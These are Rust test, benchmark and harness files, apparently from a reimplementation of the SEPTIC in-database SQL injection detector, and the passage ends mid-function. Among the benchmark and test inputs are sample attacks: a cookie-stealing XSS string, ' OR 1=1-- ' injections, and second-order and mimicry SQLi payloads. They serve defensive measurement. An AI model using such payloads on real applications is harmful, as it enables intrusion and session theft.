        assert_eq!(bucket_index(1024), 10);
        assert_eq!(bucket_index(1025), 11);
        assert_eq!(bucket_index(1 << 20), 20);
        assert_eq!(bucket_index((1 << 20) + 1), BUCKET_COUNT - 1);
        assert_eq!(bucket_index(u64::MAX), BUCKET_COUNT - 1);
    }

    #[test]
    fn every_value_lands_within_its_reported_bound() {
        let bounds = bucket_bounds_us();
        for us in [0u64, 1, 2, 3, 7, 8, 9, 100, 999, 1_000_000] {
            let i = bucket_index(us);
            assert!(i < bounds.len(), "finite value {us} overflowed");
            assert!(us <= bounds[i], "{us} above bound {}", bounds[i]);
            if i > 0 {
                assert!(us > bounds[i - 1], "{us} should be in bucket {}", i - 1);
            }
        }
    }

    #[test]
    fn percentiles_are_nearest_rank_over_bucket_bounds() {
        let h = Histogram::new();
        for us in 1..=100u64 {
            h.record_us(us);
        }
        let s = h.snapshot("t");
        assert_eq!(s.count, 100);
        assert_eq!(s.sum_us, 5050);
        assert_eq!(s.max_us, 100);
        // p50: rank 50 -> values 1..=50 span buckets up to le=64.
        assert_eq!(s.percentile_us(50.0), 64);
        assert_eq!(s.percentile_us(99.0), 128);
        assert_eq!(s.percentile_us(100.0), 128);
        assert!((s.mean_us() - 50.5).abs() < 1e-9);
    }

    #[test]
    fn overflow_percentile_reports_recorded_max() {
        let h = Histogram::new();
        h.record(Duration::from_secs(5)); // 5_000_000us > 2^20
        let s = h.snapshot("t");
        assert_eq!(s.buckets[BUCKET_COUNT - 1], 1);
        assert_eq!(s.percentile_us(50.0), 5_000_000);
        assert_eq!(s.percentile_us(99.9), 5_000_000);
    }

    #[test]
    fn empty_histogram_is_all_zeroes() {
        let s = Histogram::new().snapshot("t");
        assert_eq!(s.count, 0);
        assert_eq!(s.percentile_us(50.0), 0);
        assert_eq!(s.mean_us(), 0.0);
    }
}
