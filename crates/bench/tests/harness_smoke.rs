//! Smoke tests for the table/figure harness binaries: each must run to
//! completion and print the load-bearing lines of its artefact. Guards
//! the experiment generators against regressions.

use std::process::Command;

use septic_attacks::corpus;

/// Number of attacks the corpus holds (the harness tables scale with it).
fn corpus_len() -> usize {
    corpus().len()
}

/// Attacks the application's own sanitization stops (the classic class).
fn classic_len() -> usize {
    corpus()
        .iter()
        .filter(|a| a.class == septic_attacks::AttackClass::ClassicSqli)
        .count()
}

fn run(bin: &str, args: &[&str]) -> String {
    let exe = match bin {
        "fig2_qs_qm" => env!("CARGO_BIN_EXE_fig2_qs_qm"),
        "table1_modes" => env!("CARGO_BIN_EXE_table1_modes"),
        "demo_phases" => env!("CARGO_BIN_EXE_demo_phases"),
        "accuracy" => env!("CARGO_BIN_EXE_accuracy"),
        "ablation_ids" => env!("CARGO_BIN_EXE_ablation_ids"),
        "ablation_detector" => env!("CARGO_BIN_EXE_ablation_detector"),
        "sqlmap_scan" => env!("CARGO_BIN_EXE_sqlmap_scan"),
        other => panic!("unknown binary {other}"),
    };
    let output = Command::new(exe).args(args).output().expect("binary runs");
    assert!(
        output.status.success(),
        "{bin} exited with {:?}: {}",
        output.status,
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).into_owned()
}

#[test]
fn fig2_reproduces_the_stacks_and_verdicts() {
    let out = run("fig2_qs_qm", &[]);
    // Figure 2(a): the 9-node stack, top row first.
    assert!(out.contains("COND_ITEM"));
    assert!(out.contains("FROM_TABLE"));
    assert!(out.contains("tickets"));
    // Figure 2(b): blanked data.
    assert!(out.contains('\u{22A5}'));
    // Figures 3 and 4: the two detection verdicts.
    assert!(out.contains("structural (step 1): model has 9 nodes, query has 5"));
    assert!(out.contains("syntactic (step 2)"));
    assert!(out.contains("clean (as expected)"));
}

#[test]
fn table1_matches_the_paper_matrix() {
    let out = run("table1_modes", &[]);
    for row in [
        "| training   | x     |       | x       |      |            |     |      | x    |",
        "| prevention |       | x     | x       | x    | x          | x   | x    |      |",
        "| detection  |       | x     | x       | x    | x          | x   |      | x    |",
    ] {
        assert!(out.contains(row), "missing row:\n{row}\ngot:\n{out}");
    }
}

#[test]
fn demo_phase_a_shows_semantic_mismatch_successes() {
    let out = run("demo_phases", &["a"]);
    assert!(out.contains("thwarted (sanitization)"), "{out}");
    assert!(out.contains("SUCCEEDED"), "{out}");
    let expected = corpus_len() - classic_len();
    assert!(out.contains(&format!("{expected} succeeded")), "{out}");
}

#[test]
fn demo_phase_b_shows_waf_false_negatives() {
    let out = run("demo_phases", &["b"]);
    assert!(out.contains("blocked (WAF)"));
    assert!(
        out.contains("SUCCEEDED"),
        "WAF must have false negatives:\n{out}"
    );
}

#[test]
fn demo_phase_c_trains_idempotently() {
    let out = run("demo_phases", &["c"]);
    assert!(out.contains("query models learned"));
    assert!(out.contains("(no additions)"));
    assert!(out.contains("after 'restart'"));
}

#[test]
fn demo_phase_d_blocks_everything() {
    let out = run("demo_phases", &["d"]);
    assert!(out.contains("0 succeeded"), "{out}");
    assert!(out.contains("0 failures (no false positives)"), "{out}");
    assert!(
        !out.contains("| SUCCEEDED"),
        "no attack may get through:\n{out}"
    );
}

#[test]
fn demo_phase_e_compares_the_mechanisms() {
    let out = run("demo_phases", &["e"]);
    assert!(out.contains("SEPTIC false negatives: 0"), "{out}");
    assert!(out.contains("MISSED"), "ModSecurity must miss some:\n{out}");
}

#[test]
fn accuracy_matrix_has_all_configurations() {
    let out = run("accuracy", &[]);
    for config in [
        "sanitization",
        "modsecurity",
        "septic-detection",
        "septic-prevention",
        "modsec+septic-prevention",
    ] {
        assert!(out.contains(config), "missing {config}:\n{out}");
    }
    let full = format!("{}/{}", corpus_len(), corpus_len());
    assert!(out.contains(&full), "full protection rows expected:\n{out}");
}

#[test]
fn ablation_reports_the_refbase_collision() {
    let out = run("ablation_ids", &[]);
    assert!(out.contains("refbase"));
    // refbase has the two head-sharing call sites → 2 FPs without qids.
    assert!(out.contains("| 2 "), "collision column expected:\n{out}");
}

#[test]
fn ablation_detector_shows_step2_value() {
    let out = run("ablation_detector", &[]);
    assert!(out.contains("structural-only false negatives:"));
    assert!(
        out.contains("MISSED"),
        "step 1 alone must miss attacks:\n{out}"
    );
    // The full detector column contains no miss.
    for line in out
        .lines()
        .filter(|l| l.starts_with("| S") || l.starts_with("| C"))
    {
        let cells: Vec<&str> = line.split('|').collect();
        assert!(
            cells.last().unwrap_or(&"").trim().is_empty()
                || !cells[cells.len() - 2].contains("MISSED"),
            "two-step column must be clean: {line}"
        );
    }
}

#[test]
fn sqlmap_scan_shows_the_expected_envelope() {
    let out = run("sqlmap_scan", &[]);
    assert!(out.contains("VULNERABLE"));
    assert!(out.contains("septic"));
    // SEPTIC leaves the numeric param unexploitable.
    assert!(out.contains("not shown"), "{out}");
}
