//! Criterion counterpart of Figure 5: one workload loop per application
//! under vanilla MySQL and each SEPTIC configuration. The relative change
//! between `vanilla` and `NN`/`YN`/`NY`/`YY` is the paper's overhead.

use std::sync::Arc;

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use septic::{DetectionConfig, Mode, Septic};
use septic_benchlab::Workload;
use septic_webapp::apps::workload_apps;
use septic_webapp::deployment::Deployment;
use septic_webapp::WebApp;

fn deployment_for(app: Arc<dyn WebApp>, config: Option<DetectionConfig>) -> (Deployment, Workload) {
    let workload = Workload::record_from_app(app.as_ref());
    let septic = config.map(|c| Arc::new(Septic::with_config(c)));
    let deployment = Deployment::new(app, None, septic.clone()).expect("install");
    if let Some(septic) = septic {
        septic.set_mode(Mode::Training);
        for request in &workload.requests {
            let _ = deployment.request(request);
        }
        septic.set_mode(Mode::PREVENTION);
    }
    (deployment, workload)
}

fn bench_workloads(c: &mut Criterion) {
    let mut group = c.benchmark_group("fig5_workload_loop");
    group.sample_size(30);
    for app in workload_apps() {
        let name = app.name().to_string();
        let setups: Vec<(&str, Option<DetectionConfig>)> = vec![
            ("vanilla", None),
            ("NN", Some(DetectionConfig::NN)),
            ("YN", Some(DetectionConfig::YN)),
            ("NY", Some(DetectionConfig::NY)),
            ("YY", Some(DetectionConfig::YY)),
        ];
        for (label, config) in setups {
            let (deployment, workload) = deployment_for(app.clone(), config);
            group.bench_with_input(
                BenchmarkId::new(name.clone(), label),
                &workload,
                |b, workload| {
                    b.iter(|| {
                        for request in &workload.requests {
                            std::hint::black_box(deployment.request(request));
                        }
                    });
                },
            );
        }
    }
    group.finish();
}

criterion_group!(benches, bench_workloads);
criterion_main!(benches);
