//! Model-store hot-path micro-benchmarks: proves `ModelStore::get` is a
//! refcount bump, flat both in the number of stored models (1 → 10 000)
//! and in the size of the stored model — a deep-cloning store would scale
//! with both.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use septic::{ModelStore, QueryId, QueryModel};
use septic_sql::{items, parse};

fn qid(n: u64) -> QueryId {
    QueryId {
        external: None,
        // Spread synthetic ids like the FNV structural hash would.
        internal: n.wrapping_mul(0x9E37_79B9_7F4A_7C15),
    }
}

fn model(sql: &str) -> QueryModel {
    QueryModel::from_structure(&items::lower_all(&parse(sql).expect("parse").statements))
}

/// A query whose item stack grows with `width` — the "model size" axis.
fn wide_model(width: usize) -> QueryModel {
    let preds: Vec<String> = (0..width).map(|i| format!("c{i} = 'v{i}'")).collect();
    model(&format!("SELECT a FROM t WHERE {}", preds.join(" AND ")))
}

fn bench_get_vs_store_size(c: &mut Criterion) {
    let mut group = c.benchmark_group("store_get_by_count");
    for &count in &[1u64, 100, 10_000] {
        let store = ModelStore::new();
        for n in 0..count {
            store.learn(qid(n), model("SELECT a FROM t WHERE c = 'x'"));
        }
        let probe = qid(count / 2);
        group.bench_with_input(BenchmarkId::from_parameter(count), &probe, |b, probe| {
            b.iter(|| std::hint::black_box(store.get(probe)));
        });
    }
    group.finish();
}

fn bench_get_vs_model_size(c: &mut Criterion) {
    let mut group = c.benchmark_group("store_get_by_model_size");
    for &width in &[1usize, 16, 64] {
        let store = ModelStore::new();
        store.learn(qid(1), wide_model(width));
        let probe = qid(1);
        group.bench_with_input(BenchmarkId::from_parameter(width), &probe, |b, probe| {
            b.iter(|| std::hint::black_box(store.get(probe)));
        });
    }
    group.finish();
}

/// `get_compiled` (model + attached VM program) must stay as flat as
/// `get` across store sizes: the compiled program rides along in the
/// shard entry, so the lookup is still one hash probe plus two refcount
/// bumps — never a recompile.
fn bench_get_compiled_vs_store_size(c: &mut Criterion) {
    let mut group = c.benchmark_group("store_get_compiled_by_count");
    for &count in &[1u64, 100, 10_000] {
        let store = ModelStore::new();
        for n in 0..count {
            store.learn(qid(n), model("SELECT a FROM t WHERE c = 'x'"));
        }
        let probe = qid(count / 2);
        group.bench_with_input(BenchmarkId::from_parameter(count), &probe, |b, probe| {
            b.iter(|| std::hint::black_box(store.get_compiled(probe)));
        });
    }
    group.finish();
}

criterion_group!(
    benches,
    bench_get_vs_store_size,
    bench_get_vs_model_size,
    bench_get_compiled_vs_store_size
);
criterion_main!(benches);
