//! Bytecode-VM before/after benchmarks — the proof behind the
//! compile-once/execute-many refactor:
//!
//! * `inspect_compare` — the detection hot loop: the AST/item walker
//!   (`detect_sqli`) versus the compiled comparison program
//!   (`detect_sqli_vm`) on the same query structure, across model widths;
//! * `row_eval` — the execution hot loop: `execute_read` re-walking the
//!   WHERE/projection ASTs per row versus `execute_read_with` running the
//!   cached compiled program per row, across table sizes.
//!
//! Compilation itself is benchmarked separately (`program_compile`) to
//! show it is a per-shape one-off, amortized over every later execution.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use septic::{detect_sqli, detect_sqli_vm, QueryModel};
use septic_dbms::{execute_read, execute_read_with, execute_with, Database, ProgramCache};
use septic_sql::{items, parse, ItemStack, Statement};

fn stack_of(sql: &str) -> ItemStack {
    items::lower_all(&parse(sql).expect("parse").statements)
}

fn statement(sql: &str) -> Statement {
    parse(sql)
        .expect("parse")
        .statements
        .into_iter()
        .next()
        .expect("one statement")
}

/// A query whose item stack grows with `width` — the model-size axis.
fn wide_sql(width: usize) -> String {
    let preds: Vec<String> = (0..width).map(|i| format!("c{i} = 'v{i}'")).collect();
    format!("SELECT a FROM t WHERE {}", preds.join(" AND "))
}

/// The detection corpus: the paper's tickets lookup plus join-heavy and
/// union-heavy shapes (the realistic model sizes), and synthetic
/// predicate chains for the width axis.
fn inspect_corpus() -> Vec<(String, String)> {
    let mut corpus = vec![
        (
            "tickets".to_string(),
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234".to_string(),
        ),
        (
            "join_agg".to_string(),
            "SELECT u.name, COUNT(*), AVG(r.watts) FROM users u \
             JOIN devices d ON d.owner = u.id JOIN readings r ON r.device_id = d.id \
             WHERE u.role = 'user' AND r.ts BETWEEN 1 AND 100 \
             GROUP BY u.name HAVING COUNT(*) > 2 ORDER BY u.name LIMIT 10"
                .to_string(),
        ),
    ];
    for width in [16usize, 64] {
        corpus.push((format!("width{width}"), wide_sql(width)));
    }
    corpus
}

fn bench_inspect_compare(c: &mut Criterion) {
    let mut group = c.benchmark_group("inspect_compare");
    for (label, sql) in inspect_corpus() {
        let qs = stack_of(&sql);
        let model = QueryModel::from_structure(&qs);
        let program = septic_vm::compile_model(model.items());
        group.bench_with_input(BenchmarkId::new("ast_walker", &label), &qs, |b, qs| {
            b.iter(|| std::hint::black_box(detect_sqli(qs, &model)));
        });
        group.bench_with_input(BenchmarkId::new("vm", &label), &qs, |b, qs| {
            b.iter(|| std::hint::black_box(detect_sqli_vm(&program, qs, &model)));
        });
    }
    group.finish();
}

/// Database with `rows` rows of (a VARCHAR, b INT, c INT).
fn table_of(rows: usize) -> Database {
    let mut db = Database::new();
    let ddl = statement("CREATE TABLE t (a VARCHAR(32), b INT, c INT)");
    execute_with(&mut db, &ddl, 0, None).expect("create");
    let mut values = Vec::with_capacity(rows);
    for i in 0..rows {
        values.push(format!("('row{i}', {}, {})", i % 97, i));
    }
    let insert = statement(&format!(
        "INSERT INTO t (a, b, c) VALUES {}",
        values.join(", ")
    ));
    execute_with(&mut db, &insert, 0, None).expect("insert");
    db
}

const ROW_QUERY: &str = "SELECT a, b + c FROM t \
     WHERE b > 10 AND a LIKE 'row%' AND c BETWEEN 100 AND 100000 AND NOT (b = 13)";

fn bench_row_eval(c: &mut Criterion) {
    let mut group = c.benchmark_group("row_eval");
    let stmt = statement(ROW_QUERY);
    for &rows in &[100usize, 1_000, 10_000] {
        let db = table_of(rows);
        let cache = ProgramCache::new();
        // Warm the per-shape programs once; the loop under test is then
        // pure execute-many.
        execute_read_with(&db, &stmt, 0, Some(&cache)).expect("warmup");
        group.bench_with_input(BenchmarkId::new("ast_walker", rows), &db, |b, db| {
            b.iter(|| std::hint::black_box(execute_read(db, &stmt, 0)));
        });
        group.bench_with_input(BenchmarkId::new("vm", rows), &db, |b, db| {
            b.iter(|| std::hint::black_box(execute_read_with(db, &stmt, 0, Some(&cache))));
        });
    }
    group.finish();
}

fn bench_program_compile(c: &mut Criterion) {
    let mut group = c.benchmark_group("program_compile");
    let qs = stack_of(&wide_sql(16));
    let model = QueryModel::from_structure(&qs);
    group.bench_function("compile_model_w16", |b| {
        b.iter(|| std::hint::black_box(septic_vm::compile_model(model.items())));
    });
    let db = table_of(1);
    let stmt = statement(ROW_QUERY);
    group.bench_function("where_shape_lookup", |b| {
        // Steady-state cache lookup for an already-compiled shape — the
        // per-statement overhead the VM path adds to the pipeline.
        let cache = ProgramCache::new();
        execute_read_with(&db, &stmt, 0, Some(&cache)).expect("warmup");
        b.iter(|| std::hint::black_box(execute_read_with(&db, &stmt, 0, Some(&cache))));
    });
    group.finish();
}

criterion_group!(
    benches,
    bench_inspect_compare,
    bench_row_eval,
    bench_program_compile
);
criterion_main!(benches);
