//! Stored-injection plugin benchmarks — quantifies the design choice the
//! paper describes in Section II-C3: a lightweight character filter gates
//! the expensive precise validation (the NY column's cost model).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use septic::plugins::{default_plugins, Plugin, StoredXssPlugin};

const BENIGN: &str = "Monthly consumption looks normal; thresholds unchanged since March.";
const FILTER_HIT_BENIGN: &str = "note that 3 < 4 and 5 > 2 in every sample we took today";
const ATTACK: &str = "<img src=x onerror=stealCookies(document.cookie)>";

fn bench_two_step(c: &mut Criterion) {
    let mut group = c.benchmark_group("plugin_two_step");
    let xss = StoredXssPlugin::new();
    for (label, input) in [
        ("benign_filtered", BENIGN),
        ("benign_filter_hit", FILTER_HIT_BENIGN),
        ("attack", ATTACK),
    ] {
        group.bench_with_input(BenchmarkId::new("gated", label), input, |b, input| {
            b.iter(|| std::hint::black_box(xss.scan(input)));
        });
        // Ablation: always run the precise validation (no quick filter).
        group.bench_with_input(BenchmarkId::new("ungated", label), input, |b, input| {
            b.iter(|| std::hint::black_box(xss.confirm(input)));
        });
    }
    group.finish();
}

fn bench_full_plugin_set(c: &mut Criterion) {
    let plugins = default_plugins();
    let inputs: Vec<String> = vec![
        BENIGN.to_string(),
        "alice".to_string(),
        "kitchen meter reading 42.5W".to_string(),
    ];
    c.bench_function("plugin_set_benign_insert", |b| {
        b.iter(|| std::hint::black_box(septic::plugins::scan_inputs(&plugins, &inputs)));
    });
}

criterion_group!(benches, bench_two_step, bench_full_plugin_set);
criterion_main!(benches);
