//! Query-pipeline benchmarks: parser front end, WAF inspection, and the
//! model store under load — the per-layer costs that compose the
//! end-to-end Figure 5 numbers.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use septic::{QueryId, QueryModel};
use septic_http::HttpRequest;
use septic_sql::{charset, items, parse};
use septic_waf::ModSecurity;

fn bench_front_end(c: &mut Criterion) {
    let mut group = c.benchmark_group("sql_front_end");
    let queries = [
        (
            "point",
            "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
        ),
        (
            "join_group",
            "SELECT u.name, COUNT(*) FROM users u JOIN devices d ON d.owner = u.id \
             WHERE u.role = 'user' GROUP BY u.name ORDER BY u.name LIMIT 10",
        ),
        (
            "insert",
            "INSERT INTO readings (device_id, ts, watts) VALUES (1, 99, 42.5)",
        ),
    ];
    for (label, sql) in queries {
        group.bench_with_input(BenchmarkId::new("decode", label), sql, |b, sql| {
            b.iter(|| std::hint::black_box(charset::decode(sql)));
        });
        group.bench_with_input(BenchmarkId::new("parse", label), sql, |b, sql| {
            b.iter(|| std::hint::black_box(parse(sql).expect("parse")));
        });
        let parsed = parse(sql).expect("parse");
        group.bench_with_input(BenchmarkId::new("lower", label), &parsed, |b, parsed| {
            b.iter(|| std::hint::black_box(items::lower_all(&parsed.statements)));
        });
    }
    group.finish();
}

fn bench_waf(c: &mut Criterion) {
    let mut group = c.benchmark_group("waf_inspect");
    let waf = ModSecurity::new();
    let benign = HttpRequest::post("/login")
        .param("user", "alice")
        .param("pass", "wonderland");
    let attack = HttpRequest::post("/login")
        .param("user", "' OR 1=1-- ")
        .param("pass", "x");
    group.bench_function("benign", |b| {
        b.iter(|| std::hint::black_box(waf.inspect(&benign)));
    });
    group.bench_function("attack", |b| {
        b.iter(|| std::hint::black_box(waf.inspect(&attack)));
    });
    waf.clear_audit_log();
    group.finish();
}

fn bench_store(c: &mut Criterion) {
    let mut group = c.benchmark_group("model_store");
    let store = septic::ModelStore::new();
    let model = QueryModel::from_structure(&items::lower_all(
        &parse("SELECT * FROM t WHERE a = 'x' AND b = 1")
            .expect("parse")
            .statements,
    ));
    for i in 0..1000u64 {
        store.learn(
            QueryId {
                external: None,
                internal: i,
            },
            model.clone(),
        );
    }
    let hot = QueryId {
        external: None,
        internal: 500,
    };
    let missing = QueryId {
        external: None,
        internal: 1_000_001,
    };
    group.bench_function("get_hit_1000", |b| {
        b.iter(|| std::hint::black_box(store.get(&hot)));
    });
    group.bench_function("get_miss_1000", |b| {
        b.iter(|| std::hint::black_box(store.get(&missing)));
    });
    group.finish();
}

criterion_group!(benches, bench_front_end, bench_waf, bench_store);
criterion_main!(benches);
