//! Detector micro-benchmarks: the two-step SQLI algorithm versus the
//! structural-only ablation, model derivation and identifier generation —
//! the in-DBMS costs behind Figure 5's YN column.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use septic::id::IdGenerator;
use septic::{detect_sqli, detector::detect_sqli_structural_only, QueryModel};
use septic_sql::{items, parse, ItemStack};

fn stack_of(sql: &str) -> ItemStack {
    items::lower_all(&parse(sql).expect("parse").statements)
}

const QUERIES: &[(&str, &str)] = &[
    (
        "small",
        "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234",
    ),
    (
        "medium",
        "SELECT u.name, COUNT(*), AVG(r.watts) FROM users u \
         JOIN devices d ON d.owner = u.id JOIN readings r ON r.device_id = d.id \
         WHERE u.role = 'user' AND r.ts BETWEEN 1 AND 100 \
         GROUP BY u.name HAVING COUNT(*) > 2 ORDER BY u.name LIMIT 10",
    ),
    (
        "large",
        "SELECT a, b, c, d FROM t WHERE a = 'x' AND b IN (1,2,3,4,5,6,7,8) \
         AND c LIKE '%p%' AND d BETWEEN 1 AND 9 AND a <> 'y' AND b > 0 \
         UNION SELECT a, b, c, d FROM u WHERE a = 'z' AND b = 2 AND c = 'w' AND d = 4",
    ),
];

fn bench_detection(c: &mut Criterion) {
    let mut group = c.benchmark_group("sqli_detection");
    for (label, sql) in QUERIES {
        let qs = stack_of(sql);
        let model = QueryModel::from_structure(&qs);
        group.bench_with_input(BenchmarkId::new("two_step", label), &qs, |b, qs| {
            b.iter(|| std::hint::black_box(detect_sqli(qs, &model)));
        });
        group.bench_with_input(BenchmarkId::new("structural_only", label), &qs, |b, qs| {
            b.iter(|| std::hint::black_box(detect_sqli_structural_only(qs, &model)));
        });
    }
    group.finish();
}

fn bench_model_and_id(c: &mut Criterion) {
    let mut group = c.benchmark_group("model_pipeline");
    let qs = stack_of(QUERIES[1].1);
    group.bench_function("derive_model", |b| {
        b.iter(|| std::hint::black_box(QueryModel::from_structure(&qs)));
    });
    let generator = IdGenerator::new();
    let comments = vec!["qid:report-page".to_string()];
    group.bench_function("generate_id", |b| {
        b.iter(|| std::hint::black_box(generator.generate(&qs, &comments)));
    });
    group.finish();
}

criterion_group!(benches, bench_detection, bench_model_and_id);
criterion_main!(benches);
