//! # septic-bench
//!
//! The benchmark/experiment harness regenerating every table and figure of
//! the demo paper. Each artefact has a dedicated binary:
//!
//! | artefact | binary | paper content |
//! |---|---|---|
//! | Figure 2 | `fig2_qs_qm` | QS and QM of the tickets query |
//! | Figures 3–4 | `fig2_qs_qm` | attacked query structures + detection |
//! | Table I | `table1_modes` | operation modes × actions (measured) |
//! | Figure 5 | `fig5_overhead` | SEPTIC latency overhead NN/YN/NY/YY |
//! | §IV-A…E | `demo_phases` | the five demonstration phases |
//! | — | `accuracy` | SEPTIC vs ModSecurity detection matrix |
//! | — | `ablation_ids` | external-identifier ablation |
//! | — | `sqlmap_scan` | sqlmap-style probing session |
//!
//! Criterion micro-benches live in `benches/`.

use std::fmt::Write as _;

/// Renders an ASCII table with a header row.
#[must_use]
pub fn render_table(headers: &[&str], rows: &[Vec<String>]) -> String {
    let mut widths: Vec<usize> = headers.iter().map(|h| h.chars().count()).collect();
    for row in rows {
        for (i, cell) in row.iter().enumerate() {
            if i < widths.len() {
                widths[i] = widths[i].max(cell.chars().count());
            }
        }
    }
    let mut out = String::new();
    let sep = |out: &mut String| {
        for w in &widths {
            let _ = write!(out, "+-{}-", "-".repeat(*w));
        }
        out.push_str("+\n");
    };
    sep(&mut out);
    for (i, h) in headers.iter().enumerate() {
        let _ = write!(out, "| {:w$} ", h, w = widths[i]);
    }
    out.push_str("|\n");
    sep(&mut out);
    for row in rows {
        for (i, cell) in row.iter().enumerate() {
            let _ = write!(out, "| {:w$} ", cell, w = widths[i]);
        }
        out.push_str("|\n");
    }
    sep(&mut out);
    out
}

/// Formats a boolean as the paper's Table I check mark (`x`) or blank.
#[must_use]
pub fn check(b: bool) -> String {
    if b {
        "x".to_string()
    } else {
        String::new()
    }
}

/// Section banner for harness output.
#[must_use]
pub fn banner(title: &str) -> String {
    format!("\n=== {title} ===\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_renders_aligned() {
        let t = render_table(
            &["name", "value"],
            &[
                vec!["a".to_string(), "1".to_string()],
                vec!["longer".to_string(), "22".to_string()],
            ],
        );
        assert!(t.contains("| name   |"));
        assert!(t.contains("| longer |"));
        assert!(t.lines().count() >= 6);
    }

    #[test]
    fn check_marks() {
        assert_eq!(check(true), "x");
        assert_eq!(check(false), "");
    }
}
