//! Regenerates **Figures 2, 3 and 4** of the paper: the query structure
//! (QS) and query model (QM) of the tickets query, and the structures of
//! the two attacked variants, each annotated with the detector's verdict.
//!
//! ```text
//! cargo run -p septic-bench --bin fig2_qs_qm
//! ```

use septic::{detect_sqli, QueryModel, SqliOutcome};
use septic_bench::banner;
use septic_sql::{charset, items, parse, ItemStack};

fn stack_of(sql: &str) -> ItemStack {
    let decoded = charset::decode(sql);
    let parsed = parse(&decoded.text).expect("parse");
    items::lower_all(&parsed.statements)
}

fn main() {
    const BENIGN: &str = "SELECT * FROM tickets WHERE reservID = 'ID34FG' AND creditCard = 1234";

    // ---- Figure 2(a): the query structure ------------------------------
    println!(
        "{}",
        banner("Figure 2(a) — query structure (QS), top of stack first")
    );
    println!("query: {BENIGN}\n");
    let qs = stack_of(BENIGN);
    print!("{qs}");

    // ---- Figure 2(b): the query model ----------------------------------
    println!(
        "{}",
        banner("Figure 2(b) — query model (QM): DATA replaced by \u{22A5}")
    );
    let model = QueryModel::from_structure(&qs);
    print!("{model}");

    // ---- Figure 3: second-order attack ---------------------------------
    println!(
        "{}",
        banner("Figure 3 — second-order attack: reservID = ID34FG\u{02BC}-- ")
    );
    let second_order =
        "SELECT * FROM tickets WHERE reservID = 'ID34FG\u{02BC}-- ' AND creditCard = 0";
    println!("received query : {second_order}");
    let decoded = charset::decode(second_order);
    println!("after decoding : {}", decoded.text);
    let attacked = stack_of(second_order);
    print!("\n{attacked}");
    match detect_sqli(&attacked, &model) {
        SqliOutcome::Attack(kind) => println!("\nSEPTIC verdict: ATTACK — {kind}"),
        SqliOutcome::Clean => println!("\nSEPTIC verdict: clean (unexpected!)"),
    }

    // ---- Figure 4: syntax mimicry ---------------------------------------
    println!(
        "{}",
        banner("Figure 4 — mimicry attack: reservID = ID34FG' AND 1=1-- ")
    );
    let mimicry =
        "SELECT * FROM tickets WHERE reservID = 'ID34FG\u{02BC} AND 1=1-- ' AND creditCard = 0";
    println!("received query : {mimicry}");
    let decoded = charset::decode(mimicry);
    println!("after decoding : {}", decoded.text);
    let attacked = stack_of(mimicry);
    print!("\n{attacked}");
    match detect_sqli(&attacked, &model) {
        SqliOutcome::Attack(kind) => println!("\nSEPTIC verdict: ATTACK — {kind}"),
        SqliOutcome::Clean => println!("\nSEPTIC verdict: clean (unexpected!)"),
    }

    // ---- benign sanity ----------------------------------------------------
    println!(
        "{}",
        banner("Benign variant — different literals, same model")
    );
    let benign2 = "SELECT * FROM tickets WHERE reservID = 'ZZ42' AND creditCard = 4321";
    println!("query: {benign2}");
    match detect_sqli(&stack_of(benign2), &model) {
        SqliOutcome::Clean => println!("SEPTIC verdict: clean (as expected)"),
        SqliOutcome::Attack(kind) => println!("SEPTIC verdict: ATTACK (unexpected!) — {kind}"),
    }
}
