//! Regenerates **Table I**: operation modes and the actions SEPTIC takes.
//!
//! The table is *measured*, not transcribed: for each mode the harness
//! deploys a fresh stack, sends a benign query and an attack query, and
//! reads the resulting behaviour (model learned? attack logged? query
//! dropped or executed?) off the event register and the database state.
//!
//! ```text
//! cargo run -p septic-bench --bin table1_modes
//! ```

use std::sync::Arc;

use septic::{EventKind, Mode, Septic};
use septic_bench::{check, render_table};
use septic_dbms::Server;

/// Behaviour observed for one mode.
#[derive(Debug, Default)]
struct Observed {
    qm_training: bool,
    qm_incremental: bool,
    qm_log: bool,
    sqli_detected: bool,
    stored_detected: bool,
    attack_logged: bool,
    query_dropped: bool,
    query_executed: bool,
}

fn observe(mode: Mode) -> Observed {
    let server = Server::new();
    let conn = server.connect();
    conn.execute("CREATE TABLE t (a VARCHAR(40), b INT)")
        .unwrap();
    conn.execute("INSERT INTO t (a, b) VALUES ('seed', 1)")
        .unwrap();

    let septic = Arc::new(Septic::new());
    server.install_guard(septic.clone());

    let mut observed = Observed::default();
    const BENIGN: &str = "SELECT * FROM t WHERE a = 'x' AND b = 1";

    match mode {
        Mode::Training => {
            septic.set_mode(Mode::Training);
            conn.execute(BENIGN).unwrap();
            observed.qm_training = septic.store().len() == 1;
        }
        Mode::Normal(_) => {
            // Train first (as the demo does), then switch.
            septic.set_mode(Mode::Training);
            conn.execute(BENIGN).unwrap();
            septic.set_mode(mode);
            // Incremental learning: a new benign query shape arrives.
            let before = septic.store().len();
            conn.execute("SELECT b FROM t WHERE a = 'y'").unwrap();
            observed.qm_incremental = septic.store().len() == before + 1;
        }
    }
    observed.qm_log = septic
        .logger()
        .events_where(|k| matches!(k, EventKind::ModelCreated { .. }))
        .len()
        == septic.store().len();

    // SQLI attack against the learned shape.
    let sqli = conn.execute("SELECT * FROM t WHERE a = '' OR 1=1-- ' AND b = 0");
    // Stored-injection attack (INSERT trained in normal modes via
    // incremental learning on first sight — train it explicitly).
    septic.set_mode(Mode::Training);
    conn.execute("INSERT INTO t (a, b) VALUES ('clean', 2)")
        .unwrap();
    septic.set_mode(mode);
    let stored = conn.execute("INSERT INTO t (a, b) VALUES ('<script>x</script>', 3)");

    let counters = septic.counters();
    observed.sqli_detected = counters.sqli_detected > 0;
    observed.stored_detected = counters.stored_detected > 0;
    observed.attack_logged = septic.logger().attack_count() > 0;
    observed.query_dropped = sqli.is_err() || stored.is_err();
    observed.query_executed = sqli.is_ok() && stored.is_ok();
    observed
}

fn main() {
